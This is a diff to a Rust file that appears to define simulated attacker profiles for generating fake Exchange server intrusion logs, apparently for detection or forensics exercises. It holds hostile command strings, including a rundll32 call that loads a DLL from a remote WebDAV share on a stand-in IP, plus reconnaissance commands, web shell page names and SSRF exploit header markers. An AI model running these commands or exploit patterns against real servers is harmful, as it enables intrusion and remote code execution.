@@ -52,7 +52,7 @@ pub(super) const HABITS: Habits = Habits {
     written: (Page { place: CURRENT, name: "signinbase.aspx" }, pages::WRITTEN),
     voice_command: "cmd.exe /c rundll¦32.exe \\\\203.0.113.52@80\\share\\mwi.dll,Entry",
     probers: [&MIDGE, &MOTH],
-    scanner: ("203.0.113.236", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"),
+    scanner: ("203.0.113.236", "Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)"),
     deletion: &[plays::DELETE[0].command, plays::DELETE[1].command],
 };
 
@@ -97,7 +97,7 @@ const QUARRY: Host = Host {
     sites: (1, 2),
     web_columns: WebColumns::Extended,
     web_root: "C:\\inetpub\\wwwroot",
-    users: &["a.lindqvist", "boardroom", "dispatch", "f.amoah", "h.castellano", "intake", "kyle.reyes", "n.petrov"],
+    users: &["a.sorensen", "boardroom", "dispatch", "f.amoah", "h.castellano", "intake", "kyle.reyes", "n.petrov"],
     admin: "adm.reyes",
     domain_sid: "S-1-5-21-1148760352-2290741183-3905517642",
     tongue: Tongue::English,
@@ -150,10 +150,10 @@ const KOGANE: Host = Host {
 /// programs of well-known makers.
 const MANTIS: Intruder = Intruder {
     addresses: &["192.0.2.58", "203.0.113.77"],
-    locate_agent: "ExchangeServicesClient/0.0.0.0",
+    locate_agent: "Microsoft Office/16.0 (Windows NT 10.0; MAPI 16.0.4266; Pro)",
     chain_agent: "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
-    page_agent: "antSword/v2.1",
-    stem: "/owa/auth/Current/themes/resources/logon.css",
+    page_agent: "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.1 (KHTML, like Gecko) Chrome/21.0.1180.89 Safari/537.1",
+    stem: "/owa/auth/Current/themes/resources/SegoeUI-SemiLight.ttf",
     target: "administrator]@HOST:444",
     ending: "?#",
     hint: "X-AnonResource-Backend-Cookie",
@@ -177,17 +177,17 @@ const MANTIS_ELSEWHERE: Intruder = Intruder { addresses: &["203.0.113.77"], ..MA
 /// A worm: the same steps on every server, within a minute, and no more interest in mail.
 const CICADA: Intruder = Intruder {
     addresses: &["2001:db8:71::a4"],
-    locate_agent: "Go-http-client/1.1",
-    chain_agent: "Go-http-client/1.1",
-    page_agent: "Go-http-client/1.1",
-    stem: "/ecp/main.css",
-    target: "Admin@HOST:444",
+    locate_agent: "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)",
+    chain_agent: "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)",
+    page_agent: "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)",
+    stem: "/ecp/iey8.js",
+    target: "anon@HOST:444",
     ending: "#",
     hint: "X-BEResource-Cookie",
     pace: 350,
     url_head: "http://o/?",
     item: "pZ3vKd",
-    pages: &[Page { place: CLIENT, name: "Xq81LmT4.aspx" }],
+    pages: &[Page { place: ADMIN_AUTH, name: "Xq81LmT4.aspx" }],
     commands: &[
         "cmd.exe /c if exist C:\\Windows\\zsvc.exe (echo y) else (echo n)",
         "cmd.exe /q /c for %d in (C D E F) do @if exist %d:\\ dir %d:\\",
@@ -207,7 +207,7 @@ const HORNET: Intruder = Intruder {
     pace: 6_600,
     url_head: "https://n.example/",
     item: "exec_code",
-    pages: &[Page { place: ADMIN_AUTH, name: "ChackStylesLU.aspx" }],
+    pages: &[Page { place: SIGN_IN, name: "ChackStylesLU.aspx" }],
     commands: &["cmd /v:on /c \"set n=!computername!&echo !n!\"", "cmd /c dir /b \\\\127.0.0.1\\c$\\Users"],
 };
 
